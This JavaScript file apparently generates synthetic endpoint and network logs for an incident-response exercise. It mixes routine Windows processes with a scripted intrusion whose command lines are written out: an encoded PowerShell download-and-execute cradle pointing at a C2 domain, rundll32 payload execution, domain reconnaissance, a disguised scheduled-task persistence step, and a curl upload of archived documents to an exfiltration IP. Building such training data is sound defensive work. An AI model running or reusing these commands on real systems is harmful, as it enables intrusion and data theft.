import { at } from './log-table.js';
/** Ordinary processes of a Windows workstation: image, parent, command line. */
const routine = [
  [
    'chrome.exe',
    'explorer.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-GB',
  ],
  ['OUTLOOK.EXE', 'explorer.exe', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"'],
  [
    'ms-teams.exe',
    'explorer.exe',
    '"C:\\Program Files\\WindowsApps\\MSTeams_24033\\ms-teams.exe" --system-initiated',
  ],
  ['EXCEL.EXE', 'explorer.exe', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde'],
  [
    'OneDrive.exe',
    'explorer.exe',
    '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
  ],
  ['svchost.exe', 'services.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  [
    'MsMpEng.exe',
    'services.exe',
    '"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24020\\MsMpEng.exe"',
  ],
  ['conhost.exe', 'svchost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  [
    'backgroundTaskHost.exe',
    'svchost.exe',
    '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
  ],
  [
    'msedgewebview2.exe',
    'ms-teams.exe',
    '"C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\122.0.2365.80\\msedgewebview2.exe" --embedded-browser-webview=1',
  ],
  [
    'SearchProtocolHost.exe',
    'SearchIndexer.exe',
    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe5_',
  ],
];
/** The loader's PowerShell one-liner, encoded the way PowerShell's `-enc` expects (UTF-16LE base64). */
function encodedCommand(world) {
  const script = `$u='https://${world.c2.domain}/cdn/v2/update.ps1';IEX (New-Object Net.WebClient).DownloadString($u)`;
  return Buffer.from(script, 'utf16le').toString('base64');
}
/** What the intrusion ran on a victim's host, minutes after `offset`. */
function attackProcesses(world, user, offset) {
  const home = `C:\\Users\\${user.upn.split('@')[0]}`;
  const { loader, payload, archiver } = world.hashes;
  const steps = [
    [
      14,
      'powershell.exe',
      'EXCEL.EXE',
      `powershell.exe -nop -w hidden -enc ${encodedCommand(world)}`,
      loader,
    ],
    [
      14.4,
      'rundll32.exe',
      'powershell.exe',
      `rundll32.exe ${home}\\AppData\\Local\\Temp\\msupd_4821.dll,DllRegisterServer`,
      payload,
    ],
    [15.1, 'whoami.exe', 'rundll32.exe', 'whoami /all', ''],
    [15.3, 'nltest.exe', 'rundll32.exe', 'nltest /dclist:northwind', ''],
    [15.6, 'net.exe', 'rundll32.exe', 'net group "Domain Admins" /domain', ''],
    [
      16.2,
      'schtasks.exe',
      'rundll32.exe',
      `schtasks /create /tn "OneDrive Standalone Update Task-S-1-5-21-3349" /tr "rundll32.exe ${home}\\AppData\\Roaming\\Microsoft\\msupd.dll,DllRegisterServer" /sc onlogon /f`,
      '',
    ],
    [
      31,
      '7za.exe',
      'rundll32.exe',
      `${home}\\AppData\\Local\\Temp\\7za.exe a -tzip -pN0rthw1nd! ${home}\\AppData\\Local\\Temp\\c.zip ${home}\\Documents\\*.xlsx`,
      archiver,
    ],
    [
      33,
      'curl.exe',
      'rundll32.exe',
      `curl.exe -s -k -X POST --data-binary @${home}\\AppData\\Local\\Temp\\c.zip https://${world.exfilIp}/upload`,
      '',
    ],
  ];
  return steps.map(([minutes, image, parent, commandLine, sha256]) => [
    at(world.start, offset + minutes),
    user.host,
    user.upn.split('@')[0] ?? '',
    image,
    parent,
    commandLine,
    sha256 || '-',
  ]);
}
/** `process_events` of one host over a window around the intrusion. */
export function processEvents(world, random, { user, attackOffset, rows: count }) {
  const rows = [];
  const name = user.upn.split('@')[0] ?? '';
  for (let n = 0; n < count; n += 1) {
    const [image, parent, commandLine] = random.pick(routine);
    rows.push([
      at(world.start, random.int(-120, 90) + random.next()),
      user.host,
      image === 'svchost.exe' || image === 'MsMpEng.exe' ? 'SYSTEM' : name,
      image,
      parent,
      commandLine.replace('{user}', name),
      random.hex(64),
    ]);
  }
  if (attackOffset !== undefined) rows.push(...attackProcesses(world, user, attackOffset));
  return {
    columns: ['timestamp', 'host', 'user', 'process', 'parent_process', 'command_line', 'sha256'],
    rows: rows.sort((a, b) => String(a[0]).localeCompare(String(b[0]))),
  };
}
const services = [
  ['outlook.office365.example', '198.51.100.201', 443],
  ['teams.microsoft.example', '198.51.100.202', 443],
  ['northwind.sharepoint.example', '198.51.100.203', 443],
  ['update.googleapis.example', '198.51.100.204', 443],
  ['wdcp.microsoft.example', '198.51.100.205', 443],
  ['dc01.corp.northwind.example', '10.20.0.10', 389],
  ['fs02.corp.northwind.example', '10.20.0.31', 445],
];
/** `network_connections` of some hosts: routine traffic, the C2 beacon every ~60 s, and the upload. */
export function networkConnections(world, random, { users, beaconFrom = [], minutes }) {
  const rows = [];
  for (const user of users) {
    for (let n = random.int(25, 40); n > 0; n -= 1) {
      const [domain, ip, port] = random.pick(services);
      rows.push([
        at(world.start, random.int(-30, minutes) + random.next()),
        user.host,
        random.pick(['chrome.exe', 'OUTLOOK.EXE', 'ms-teams.exe', 'OneDrive.exe', 'svchost.exe']),
        ip,
        port,
        domain,
        random.int(400, 90_000),
        random.int(2_000, 900_000),
      ]);
    }
  }
  beaconFrom.forEach((user, index) => {
    const first = 14.5 + index * 47;
    for (let t = first; t < minutes; t += 0.9 + random.next() * 0.2) {
      rows.push([
        at(world.start, t),
        user.host,
        'rundll32.exe',
        world.c2.ip,
        443,
        world.c2.domain,
        random.int(310, 420),
        random.int(180, 260),
      ]);
    }
    rows.push([
      at(world.start, first + 18.5),
      user.host,
      'curl.exe',
      world.exfilIp,
      443,
      '',
      random.int(38_000_000, 61_000_000),
      412,
    ]);
  });
  return {
    columns: ['timestamp', 'host', 'process', 'dest_ip', 'dest_port', 'dest_domain', 'bytes_out', 'bytes_in'],
    rows: rows.sort((a, b) => String(a[0]).localeCompare(String(b[0]))),
  };
}
/** `dns_queries` for the C2 domain across the fleet. */
export function c2DnsQueries(world, random) {
  const rows = [];
  world.victims.forEach((user, index) => {
    const queries = index === 2 ? 1 : random.int(14, 20);
    for (let n = 0; n < queries; n += 1) {
      rows.push([at(world.start, 14.3 + index * 47 + n * 4.1), user.host, world.c2.domain, world.c2.ip, 'A']);
    }
  });
  return { columns: ['timestamp', 'host', 'query', 'response', 'query_type'], rows };
}
/** Process events fleet-wide whose image hash is one of the attack's. */
export function hashHits(world) {
  const rows = world.victims
    .slice(0, 2)
    .flatMap((user, index) => attackProcesses(world, user, index * 47))
    .filter((row) => row[6] !== '-');
  return {
    columns: ['timestamp', 'host', 'user', 'process', 'parent_process', 'command_line', 'sha256'],
    rows,
  };
}
/** `dns_queries` for the phishing domain: every host whose user opened the lure's link. */
export function phishDnsQueries(world, random) {
  const clicked = [...world.victims, ...world.users.slice(3, 9).filter(() => random.chance(0.6))];
  const rows = clicked.flatMap((user, index) =>
    Array.from({ length: random.int(2, 5) }, (_, n) => [
      at(world.start, -34 + index * 5 + n * 0.4),
      user.host,
      `${n === 0 ? '' : 'login.'}${world.phishDomain}`,
      world.loginIps.vps,
      'A',
    ]),
  );
  return { columns: ['timestamp', 'host', 'query', 'response', 'query_type'], rows };
}
